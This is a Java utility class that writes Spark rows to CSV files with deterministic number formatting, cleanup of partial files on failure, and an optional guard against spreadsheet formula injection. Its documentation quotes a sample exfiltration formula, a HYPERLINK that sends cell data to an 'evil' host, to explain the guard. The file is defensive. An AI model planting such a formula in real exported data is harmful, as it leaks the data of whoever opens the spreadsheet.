package org.framing.report;

import java.io.IOException;
import java.io.Writer;
import java.math.BigDecimal;
import java.math.MathContext;
import java.math.RoundingMode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Iterator;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.spark.sql.Row;

/**
 * Writes one CSV file: UTF-8, a header line, RFC 4180 quoting (a field is quoted when it holds a comma, quote
 * or line break; quotes are doubled), {@code \n} line ends. Doubles are written with {@link #number}, so the
 * same run writes the same bytes. When the rows fail to come (a Spark job fails) or the disk fills, a file the
 * write created is deleted: no part of a file is left behind, so the files a failed run keeps are whole.
 */
public final class CsvSink {

  private static final CSVFormat FORMAT = CSVFormat.RFC4180.builder().setRecordSeparator("\n").build();
  private static final MathContext DIGITS = new MathContext(12, RoundingMode.HALF_EVEN);

  private CsvSink() {}

  /** Writes {@code header} and the rows' values in column order; returns the number of rows written. */
  public static long write(Path file, List<String> header, Iterator<Row> rows) {
    return write(file, header, rows, false);
  }

  /**
   * As {@link #write(Path, List, Iterator)}; with {@code excelSafe} a text cell that starts with {@code = + - @},
   * a tab or a carriage return gets a leading {@code '} (see {@link #excelSafe}). Numbers are never changed.
   */
  public static long write(Path file, List<String> header, Iterator<Row> rows, boolean excelSafe) {
    long count = 0;
    boolean existed = Files.exists(file);
    boolean whole = false;
    try {
      try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8);
           CSVPrinter printer = new CSVPrinter(out, FORMAT)) {
        printer.printRecord(header);
        Object[] values = new Object[header.size()];
        while (rows.hasNext()) {
          Row r = rows.next();
          for (int i = 0; i < values.length; i++) {
            values[i] = cell(excelSafe ? excelSafe(r.get(i)) : r.get(i));
          }
          printer.printRecord(values);
          count++;
        }
      }
      whole = true;
    } catch (IOException e) {
      throw DiskFullException.writeFailed(file, e);
    } finally {
      if (!whole && !existed) {
        try {
          Files.deleteIfExists(file);
        } catch (IOException ignored) {
          // Best effort: the run's staging folder is not published after a failure.
        }
      }
    }
    return count;
  }

  /**
   * Neutralises spreadsheet formula injection (OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets run a
   * cell that starts with {@code = + - @} (or a tab or carriage return before one) as a formula, so a title such
   * as {@code =HYPERLINK("http://evil/?"&A1)} in an article could leak data or run commands when the CSV is
   * opened. A leading {@code '} makes the spreadsheet show the text as it is. Only text is changed: numbers come
   * as Double or Long and stay numbers ({@code -0.5} stays {@code -0.5}).
   */
  static Object excelSafe(Object cell) {
    if (cell instanceof String s && !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0) {
      return "'" + s;
    }
    return cell;
  }

  private static Object cell(Object v) {
    if (v instanceof Double d) {
      return number(d);
    }
    if (v instanceof Float f) {
      return number(f.doubleValue());
    }
    return v == null ? "" : v;
  }

  /**
   * A double as plain decimal text rounded to 12 significant digits (half even) without trailing zeros:
   * {@code 12.5}, {@code 0.000123456789012}, {@code 3}. Twelve digits keep every figure far beyond the
   * metrics' precision while hiding the last-bit noise of sums taken in a different order.
   */
  public static String number(double d) {
    if (Double.isNaN(d) || Double.isInfinite(d)) {
      throw new IllegalArgumentException("not a finite number: " + d);
    }
    if (d == 0) {
      return "0";
    }
    BigDecimal b = new BigDecimal(d).round(DIGITS).stripTrailingZeros();
    return b.scale() < 0 ? b.setScale(0).toPlainString() : b.toPlainString();
  }
}
